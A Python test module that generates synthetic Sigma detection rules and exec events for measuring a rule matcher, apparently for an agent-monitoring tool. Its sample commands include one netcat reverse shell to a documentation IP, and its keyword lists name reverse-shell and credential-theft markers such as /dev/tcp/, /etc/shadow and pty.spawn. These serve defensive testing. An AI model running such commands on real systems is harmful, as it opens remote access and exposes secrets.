"""Synthetic Sigma rules and events, made from a seed: shaped like public Linux rules, and none of them copied.

The shares follow what was counted in a public collection: most rules name a program and parts of its command line,
some only parts of the command line, a few a regular expression; some look at connections, names or files.
"""

from __future__ import annotations

from random import Random
from typing import Any

import yaml

from jupyter_agentwatch.testing import event

__all__ = ["COMMANDS", "exec_pair", "random_commands", "synthetic_rules"]

_PROGRAMS = (
    *(
        "bash",
        "sh",
        "python3",
        "perl",
        "ruby",
        "php",
        "curl",
        "wget",
        "nc",
        "ncat",
        "socat",
        "ssh",
        "scp",
        "rsync",
        "tar",
    ),
    *(
        "find",
        "awk",
        "sed",
        "git",
        "make",
        "gcc",
        "node",
        "npm",
        "pip",
        "crontab",
        "systemctl",
        "chmod",
        "chattr",
        "dd",
    ),
    *(
        "base64",
        "xxd",
        "nmap",
        "dig",
        "ping",
        "arp",
        "ip",
        "iptables",
        "mount",
        "docker",
        "kubectl",
        "vim",
        "less",
        "env",
    ),
)
_OPTIONS = (
    *(
        "-e",
        "-c",
        "-l",
        "-p",
        "-i",
        "-r",
        "-x",
        "-o",
        "-f",
        "-R",
        "-L",
        "--no-check",
        "--data",
        "--upload-file",
        "--exec",
    ),
    *(
        "/dev/tcp/",
        "/etc/shadow",
        "/tmp/",
        "/dev/shm/",
        "authorized_keys",
        ".ssh/",
        "http://",
        "https://",
        "| sh",
        "&&",
    ),
    *(
        "import os",
        "pty.spawn",
        "socket",
        "subprocess",
        "eval",
        "mkfifo",
        "chmod +x",
        "base64 -d",
        "nohup",
        "history -c",
    ),
)

COMMANDS = (
    ["/usr/bin/git", "status", "--short"],
    ["/usr/bin/python3.11", "-m", "pytest", "-q", "tests/test_model.py"],
    ["/usr/bin/bash", "-c", "make -j2 && ls -la build/ | head -n 20"],
    ["/usr/bin/curl", "-sS", "-o", "/tmp/data.json", "https://example.org/data.json"],
    ["/usr/bin/find", ".", "-name", "*.py", "-not", "-path", "./build/*", "-print0"],
    ["/usr/bin/gcc", "-O2", "-Wall", "-Iinclude", "-c", "src/main.c", "-o", "build/main.o"],
    ["/usr/bin/sed", "-n", "1,120p", "src/model.py"],
    ["/usr/bin/nc", "-e", "/bin/sh", "198.51.100.7", "4444"],
    ["/usr/bin/tar", "czf", "/tmp/out.tgz", "results/", "--exclude", "*.pt"],
    ["/usr/bin/python3.11", "train.py", "--epochs", "3", "--lr", "3e-4", "--out", "runs/0007", "--seed", "17"],
)
"""Command lines as agents run them; the first is the program's path."""


def synthetic_rules(count: int, seed: int) -> dict[str, str]:
    """Return this many rules as files: name → text."""
    random = Random(seed)  # noqa: S311 - rules and events have to be repeatable
    return {f"synthetic/{number:04}.yml": yaml.safe_dump(_rule(random, number)) for number in range(count)}


def random_commands(count: int, seed: int) -> list[list[str]]:
    """Return this many command lines out of the words that the rules look for."""
    random = Random(seed)  # noqa: S311 - rules and events have to be repeatable
    chosen = []
    for _ in range(count):
        if random.random() < 0.6:
            chosen.append(list(random.choice(COMMANDS)))
        else:
            words = [random.choice((*_OPTIONS, *_PROGRAMS, _word(random))) for _ in range(random.randint(0, 9))]
            chosen.append([f"/usr/bin/{random.choice(_PROGRAMS)}", *words])
    return chosen


def exec_pair(command: list[str], seq: int, **fields: Any) -> list[Any]:
    """Return the claim and the truth of one exec."""
    base = {"step": 1, "pid": 1000 + seq, **fields}
    return [
        event("exec", basis="claimed", seq=seq, t_mono_ns=seq * 1000, path=command[0], argv=command, **base),
        event(
            "exec", basis="post", seq=seq + 1, t_mono_ns=seq * 1000 + 1, exe=command[0], claim_seq=seq, ppid=1, **base
        ),
    ]


def _word(random: Random) -> str:
    return "".join(random.choice("abcdefghijklmnopqrstuvwxyz-_.") for _ in range(random.randint(4, 12)))


def _some(random: Random, words: tuple[str, ...], low: int, high: int) -> list[str]:
    return [random.choice((*words, _word(random))) for _ in range(random.randint(low, high))]


def _rule(random: Random, number: int) -> dict[str, Any]:
    category, detection = random.choices(
        [_by_program, _by_text, _by_expression, _by_parent, _keywords, _connection, _name, _file],
        [84, 29, 9, 12, 20, 12, 16, 18],
    )[0](random)
    return {
        "title": f"Synthetic rule {number}",
        "id": f"00000000-0000-4000-8000-{number:012}",
        "level": random.choice(["low", "medium", "high"]),
        "description": "Made for measuring. " * 8,
        "author": "a generator",
        "tags": [random.choice(["attack.t1059.004", "attack.t1046", "attack.t1572", "attack.execution"])],
        "logsource": {"product": "linux", **({"category": category} if category else {})},
        "detection": detection,
    }


def _images(random: Random) -> dict[str, Any]:
    return {"Image|endswith": [f"/{name}" for name in _some(random, _PROGRAMS, 1, 6)]}


def _by_program(random: Random) -> tuple[str, dict[str, Any]]:
    return "process_creation", {
        "selection_img": _images(random),
        "selection_cli": {f"CommandLine|contains{random.choice(['', '|all'])}": _some(random, _OPTIONS, 1, 8)},
        "filter_main_known": {"CommandLine|contains": _some(random, (), 1, 2)},
        "condition": "all of selection_* and not 1 of filter_main_*",
    }


def _by_text(random: Random) -> tuple[str, dict[str, Any]]:
    return "process_creation", {
        "selection_a": {"CommandLine|contains": _some(random, (), 3, 20)},
        "selection_b": {"CommandLine|contains|all": _some(random, _OPTIONS, 2, 3)},
        "condition": "1 of selection_*",
    }


def _by_expression(random: Random) -> tuple[str, dict[str, Any]]:
    pattern = rf"\s-[{_word(random)[:3].strip('-_.') or 'x'}]\s+\S*{random.choice(['sh', 'tcp', 'key'])}"
    return "process_creation", {"selection": {"CommandLine|re": pattern}, "condition": "selection"}


def _by_parent(random: Random) -> tuple[str, dict[str, Any]]:
    return "process_creation", {
        "selection": {**_images(random), "ParentImage|endswith": [f"/{n}" for n in _some(random, _PROGRAMS, 1, 4)]},
        "condition": "selection",
    }


def _keywords(random: Random) -> tuple[str, dict[str, Any]]:
    return "", {"keywords": _some(random, (), 2, 12), "condition": "keywords"}


def _connection(random: Random) -> tuple[str, dict[str, Any]]:
    return "network_connection", {
        "selection": {"Initiated": "true", "DestinationPort": [random.randint(1, 65535) for _ in range(8)]},
        "filter": {"DestinationIp|cidr": ["127.0.0.0/8", "10.0.0.0/8", "::1/128"]},
        "condition": "selection and not filter",
    }


def _name(random: Random) -> tuple[str, dict[str, Any]]:
    return "dns", {"selection": {"query|endswith": _some(random, (), 5, 40)}, "condition": "selection"}


def _file(random: Random) -> tuple[str, dict[str, Any]]:
    return "file_event", {
        "selection": {"TargetFilename|contains": _some(random, _OPTIONS, 1, 6)},
        "condition": "selection",
    }
